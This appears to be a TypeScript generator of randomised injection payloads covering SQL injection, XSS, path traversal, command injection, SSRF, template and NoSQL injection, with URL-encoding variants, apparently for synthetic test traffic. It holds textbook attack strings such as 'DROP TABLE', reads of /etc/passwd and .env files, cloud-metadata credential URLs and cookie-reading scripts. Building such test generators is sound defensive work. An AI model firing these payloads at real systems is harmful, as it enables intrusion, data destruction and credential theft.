// Our own injection payloads, by class, and the encodings clients and scanners send them with.
// Written here from the textbook forms of each class (no data set copied); the generator varies
// quotes, comments, case and values so that no two scenarios send the same list.
import type { Rng } from '../../prng';

export const PAYLOAD_CLASSES = ['sqli', 'xss', 'traversal', 'command', 'ssrf', 'template', 'nosql'] as const;
export type PayloadClass = (typeof PAYLOAD_CLASSES)[number];

function sqli(rng: Rng): string {
  const q = rng.pick(["'", '"', '']);
  const n = rng.int(1, 9);
  const comment = rng.pick(['--', '-- -', '#', '/*', '']);
  return rng.pick([
    `${q} OR ${n}=${n}${comment}`,
    `${q}) OR (${q}${n}${q}=${q}${n}`,
    `${n}${q} UNION SELECT ${Array.from({ length: rng.int(1, 5) }, (_, i) => (rng.chance(0.5) ? 'NULL' : String(i + 1))).join(',')}${comment}`,
    `${n}; DROP TABLE ${rng.pick(['users', 'orders', 'vehicles'])}${comment}`,
    `${n}${q} AND SLEEP(${rng.int(2, 10)})${comment}`,
    `${n}${q} AND 1=CAST((SELECT version()) AS INT)${comment}`,
    `${q}; WAITFOR DELAY '0:0:${rng.int(3, 9)}'${comment}`,
    `${n} ${rng.pick(['AnD', 'and', 'AND'])} ${rng.int(10, 99)}=${rng.int(10, 99)}`,
    `admin${q}${comment}`,
  ]);
}

function xss(rng: Rng): string {
  const fn = rng.pick(['alert', 'prompt', 'confirm']);
  const arg = rng.pick(['1', 'document.cookie', 'document.domain', `'${rng.chars(4)}'`]);
  return rng.pick([
    `<script>${fn}(${arg})</script>`,
    `<img src=x onerror=${fn}(${arg})>`,
    `"><svg/onload=${fn}(${arg})>`,
    `javascript:${fn}(${arg})`,
    `<iframe src="javascript:${fn}(${arg})"></iframe>`,
    `<ScRiPt>${fn}(${arg})</sCrIpT>`,
    `'-${fn}(${arg})-'`,
  ]);
}

function traversal(rng: Rng): string {
  const depth = rng.int(2, 8);
  const up = rng.pick(['../', '..\\', '....//', '%2e%2e/', '..%2f']);
  return `${up.repeat(depth)}${rng.pick(['etc/passwd', 'etc/shadow', 'proc/self/environ', 'windows/win.ini', 'app/.env', 'var/log/nginx/access.log'])}`;
}

function command(rng: Rng): string {
  const cmd = rng.pick(['id', 'whoami', 'uname -a', 'cat /etc/passwd', `sleep ${rng.int(3, 9)}`, `ping -c ${rng.int(1, 4)} 127.0.0.1`, 'ls -la /']);
  return rng.pick([`; ${cmd}`, `| ${cmd}`, `\`${cmd}\``, `$(${cmd})`, `&& ${cmd}`, `%0a${cmd}`]);
}

function ssrf(rng: Rng): string {
  return rng.pick([
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://metadata.google.internal/computeMetadata/v1/?recursive=true',
    `http://127.0.0.1:${rng.pick([22, 2375, 6379, 8080, 9200])}/`,
    'http://localhost/admin',
    'file:///etc/passwd',
    `gopher://127.0.0.1:6379/_INFO`,
    `http://[::1]:${rng.pick([80, 8500])}/`,
    `http://10.0.0.${rng.int(1, 254)}/`,
  ]);
}

function template(rng: Rng): string {
  const a = rng.int(3, 99);
  const b = rng.int(3, 99);
  return rng.pick([`{{${a}*${b}}}`, `\${${a}*${b}}`, `<%= ${a}*${b} %>`, `#{${a}*${b}}`, `{{config.items()}}`, `{{''.__class__.__mro__[1].__subclasses__()}}`, `\${T(java.lang.Runtime).getRuntime().exec('id')}`]);
}

/** NoSQL operators go into JSON bodies as objects; in a query string they become bracket forms. */
function nosql(rng: Rng): string {
  return rng.pick(['{"$ne":null}', '{"$gt":""}', '{"$regex":".*"}', '{"$where":"sleep(5000)"}', '{"$exists":true}']);
}

export function payload(rng: Rng, kind: PayloadClass): string {
  switch (kind) {
    case 'sqli': return sqli(rng);
    case 'xss': return xss(rng);
    case 'traversal': return traversal(rng);
    case 'command': return command(rng);
    case 'ssrf': return ssrf(rng);
    case 'template': return template(rng);
    case 'nosql': return nosql(rng);
  }
}

/** How a value goes into a URL: fully encoded, spaces only, double-encoded, or with `+` for spaces. */
export function encodeForUrl(rng: Rng, value: string): string {
  const style = rng.weighted([['full', 5], ['minimal', 3], ['double', 1], ['plus', 1]] as const);
  if (style === 'full') return encodeURIComponent(value);
  if (style === 'plus') return encodeURIComponent(value).replace(/%20/g, '+');
  if (style === 'double') return encodeURIComponent(encodeURIComponent(value));
  // what a careless script sends: only what would break the request line or the query is escaped
  // (a `%` stays: the payload may carry its own encoding)
  return value.replace(/[\s#&?\\"<>`{}|^]/g, (c) => encodeURIComponent(c));
}
